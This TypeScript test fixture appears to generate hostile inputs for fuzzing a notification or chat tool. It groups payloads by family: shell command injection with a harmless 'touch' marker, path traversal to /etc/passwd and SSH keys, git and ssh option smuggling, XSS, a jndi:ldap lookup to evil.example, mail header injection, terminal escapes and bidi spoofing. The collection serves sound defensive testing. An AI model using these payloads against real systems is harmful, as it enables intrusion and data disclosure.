// Hostile text by families: each payload alone, and in the places where people and programs would put it.

export interface Hostile {
  readonly family: string;
  readonly text: string;
}

/** A shell that reads a payload makes this file, in the folder it runs in. */
export const TRACE = 'dhash-was-here';

const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  shell: [
    `; touch ${TRACE}`,
    `$(touch ${TRACE})`,
    `\`touch ${TRACE}\``,
    `| touch ${TRACE}`,
    `&& touch ${TRACE}`,
    `\n touch ${TRACE} \n`,
    `'; touch ${TRACE}; '`,
    `"; touch ${TRACE}; "`,
    `$IFS;touch$IFS${TRACE}`,
    `>${TRACE}`,
    `--upload-pack=touch ${TRACE}`,
    `-oProxyCommand=touch ${TRACE}`,
    `ext::sh -c touch% ${TRACE}`,
    `{touch,${TRACE}}`,
    `--output=${TRACE}`,
  ],
  path: [
    '../../../../etc/passwd',
    '/etc/shadow',
    '..\\..\\windows',
    '%2e%2e%2fetc',
    '....//....//etc',
    'v1.0.0/../../..',
    '~root/.ssh/id_rsa',
    '.git/hooks/post-checkout',
    'file:///etc/passwd',
    '\u2024\u2024/\u2024\u2024/etc',
    'a\0/../b',
    '-rf',
    '.',
  ],
  mention: [
    '<!channel>',
    '<!here>',
    '<!everyone>',
    '<!here|here>',
    '<@U0BOB>',
    '<@W0BOB|bob>',
    '<!subteam^S0ONCALL>',
    '<!subteam^S0ONCALL|@ops>',
    '<#C0OPS|ops>',
    '&lt;!channel&gt;',
    '<\u200b!channel>',
    '<! channel>',
    '@channel @here @everyone',
    '<<!channel>>',
  ],
  markup: [
    '<https://evil.example|ana approved>',
    '<javascript:alert(1)|x>',
    '<mailto:x@evil.example|x>',
    '```',
    '``` <!channel> ```',
    '`<!here>`',
    '*bold* _it_ ~gone~',
    ':rotating_light::tada:',
    '> quoted',
    '- [x] approved',
    '| a | b |',
    '<!date^0^{date}^https://evil.example|now>',
    '[text](https://evil.example)',
    '![x](https://evil.example/x.png)',
    '\\*',
  ],
  html: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '</pre></code></td><svg onload=alert(1)>',
    '<iframe src="https://evil.example">',
    '<style>*{display:none}</style>',
    '<a href="javascript:alert(1)">x</a>',
    '<!-- --><base href=//evil.example>',
    '&#60;script&#62;',
    ']]><x/>',
    '</title><meta http-equiv=refresh content=0>',
  ],
  card: ['{{DATE(2026-01-01T00:00:00Z,SHORT)}}', '<at>everyone</at>', '{{TIME()}}', '</at><at id="0">ana</at>', '$' + '{$root.secret}'],
  template: [
    '{{{reason}}}',
    '{{tag}}',
    '{{#tag}}x{{/tag}}',
    '{{> partial}}',
    '{{=<% %>=}}',
    '$' + '{jndi:ldap://evil.example/a}',
    '%s%n%p',
    '__proto__',
    'constructor',
  ],
  header: [
    '\r\nBcc: evil@evil.example',
    '\nSubject: other',
    '=?utf-8?q?evil?=',
    '\r\n\r\n<b>body</b>',
    '\u2028Bcc: x@evil.example',
    '" <evil@evil.example>',
  ],
  terminal: [
    '\u001b[2J\u001b[H',
    '\u001b[31mFAIL\u001b[0m',
    '\u001b]0;root shell\u0007',
    '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
    '\u001b]52;c;ZXZpbA==\u0007',
    '\u001bP+q544e\u001b\\',
    '\u009b2J',
    '\u009d0;title\u009c',
    'good\rbad',
    'abc\b\b\bxyz',
    '\u0007\u0007',
    '\u007f\u007f',
    '\u001b[6n',
    '\u001b[?1049h',
    '\u001b[200~rm\u001b[201~',
    '\u000e\u000f',
    'x\u0000y',
  ],
  direction: [
    '\u202egpj.exe',
    '\u2066a\u2067b\u2069',
    '\u200fabc',
    '\u200eabc',
    '\u061cabc',
    '\u202a\u202b\u202c\u202d',
    '\u2028new\u2029lines',
    '\u{e0041}\u{e0042}',
    '\ufeffx',
    '\ud800',
    '\udc00x\ud800',
  ],
  words: ['--env=production', '--emergency', '--override', '-- -x', '"unclosed', "'", '\\', '\u201cx\u201d', '  ', '--backup=../../x.zip'],
  length: [
    'x'.repeat(5_000),
    '<'.repeat(3_000),
    '&'.repeat(3_000),
    '`'.repeat(500),
    '\u{1f600}'.repeat(2_000),
    'a b '.repeat(1_500),
    '<!channel> '.repeat(400),
    '\n'.repeat(500),
  ],
};

const PLACES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `v2.1.0${payload}`,
  (payload) => `the build of ${payload} failed`,
  (payload) => `${payload}${payload}`,
  // So that a cut at Slack's or a mail's limit falls into it.
  (payload) => `${'y'.repeat(290)}${payload.slice(0, 40)} tail`,
];

export const CORPUS: readonly Hostile[] = Object.entries(FAMILIES).flatMap(([family, payloads]) =>
  payloads.flatMap((payload) => PLACES.map((place) => ({ family, text: place(payload) }))),
);

const ENDS = Object.values(FAMILIES).map((payloads) => `${payloads[0]} ${payloads.at(-1)?.slice(0, 500)}`);

/** The first and the last payload of each family, in two texts. */
export const SAMPLE: readonly string[] = [0, 1].map((half) => ENDS.filter((_, at) => at % 2 === half).join(' '));
